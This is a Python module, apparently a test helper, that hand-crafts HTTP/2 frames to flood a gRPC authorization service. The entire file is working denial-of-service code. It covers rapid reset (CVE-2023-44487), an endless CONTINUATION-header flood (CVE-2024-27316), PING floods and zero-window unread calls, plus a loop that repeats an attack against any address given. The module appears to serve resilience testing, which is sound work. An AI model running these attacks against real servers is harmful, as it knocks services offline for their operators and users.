"""HTTP/2 by hand, as no client library sends it."""

from __future__ import annotations

import socket
import struct
import threading
from collections.abc import Iterator
from contextlib import contextmanager, suppress
from typing import NamedTuple

CHECK = b"/authz.v1.AuthorizationService/Check"
READ = b"/authz.v1.DirectoryService/ReadCourses"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, END_HEADERS = 1, 4
_INITIAL_WINDOW_SIZE = 4
_CANCEL = struct.pack(">I", 8)
_POST_OVER_HTTP = b"\x83\x86"
"""From the static table of RFC 7541."""
_RECEIVE_BYTES = 65536
_STREAMS = 3000


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """A frame. Source: RFC 9113, 4.1."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: bytes, value: bytes) -> bytes:
    """A header that enters no table. Source: RFC 7541, 6.2.2."""
    assert len(name) < 127 and len(value) < 127
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def call_headers(path: bytes) -> bytes:
    """The headers of a gRPC call."""
    named = {b":path": path, b":authority": b"x", b"content-type": b"application/grpc", b"te": b"trailers"}
    return _POST_OVER_HTTP + b"".join(literal(*each) for each in named.items())


def preface(window_bytes: int = 65535) -> bytes:
    """What a client sends first, with how much of each answer it takes unasked."""
    window = struct.pack(">HI", _INITIAL_WINDOW_SIZE, window_bytes)
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, window)


def connect(address: str) -> socket.socket:
    """A connection that has sent nothing yet."""
    host, _, port = address.rpartition(":")
    return socket.create_connection((host, int(port)), timeout=5)


class Attack(NamedTuple):
    """What one client sends at once, and whether it reads what comes back."""

    sent: bytes
    reads: bool

    def run(self, address: str, over: threading.Event) -> None:
        """Send it on a new connection, and stay until the server ends that, or `over`.

        Raises `OSError` if the server ends it earlier.
        """
        with connect(address) as connection:
            if not self.reads:
                connection.sendall(self.sent)
                over.wait()
                return
            reader = threading.Thread(target=_read, args=(connection,))
            reader.start()
            try:
                connection.sendall(self.sent)
                connection.shutdown(socket.SHUT_WR)
            finally:
                reader.join()


def _read(connection: socket.socket) -> None:
    with suppress(OSError):
        while connection.recv(_RECEIVE_BYTES):
            pass


def _streams() -> range:
    return range(1, 2 * _STREAMS, 2)


def _rapid_reset() -> Attack:
    """Calls of which each is taken back at once (CVE-2023-44487)."""
    headers = call_headers(CHECK)
    calls = (frame(HEADERS, END_HEADERS, n, headers) + frame(RST_STREAM, 0, n, _CANCEL) for n in _streams())
    return Attack(preface() + b"".join(calls), reads=True)


def _unread_answers() -> Attack:
    """Calls whose answers the client never takes."""
    headers = call_headers(READ)
    calls = (
        frame(HEADERS, END_HEADERS, n, headers) + frame(DATA, END_STREAM, n, bytes(5)) for n in _streams()
    )
    return Attack(preface(window_bytes=0) + b"".join(calls), reads=False)


def _pings(*, reads: bool) -> Attack:
    return Attack(preface() + frame(PING, 0, 0, bytes(8)) * 50_000, reads=reads)


def _endless_headers() -> Attack:
    """The headers of one call, which never end (CVE-2024-27316)."""
    more = frame(CONTINUATION, 0, 1, literal(b"x-more", b"v" * 100) * 50)
    return Attack(preface() + frame(HEADERS, 0, 1, call_headers(CHECK)) + more * 300, reads=True)


ATTACKS = {
    "rapid reset": _rapid_reset(),
    "unread answers": _unread_answers(),
    "pings": _pings(reads=True),
    "pings whose answers are not read": _pings(reads=False),
    "endless headers": _endless_headers(),
}


@contextmanager
def attacking(attack: Attack, address: str) -> Iterator[threading.Event]:
    """Attack again and again while the block runs. The event is set once an attack has ended."""
    over, once = threading.Event(), threading.Event()
    if not attack.reads:
        once.set()

    def attack_on() -> None:
        while not over.is_set():
            with suppress(OSError):  # the server has ended the connection, or reads no more
                attack.run(address, over)
            once.set()

    attacker = threading.Thread(target=attack_on)
    attacker.start()
    try:
        yield once
    finally:
        over.set()
        attacker.join()
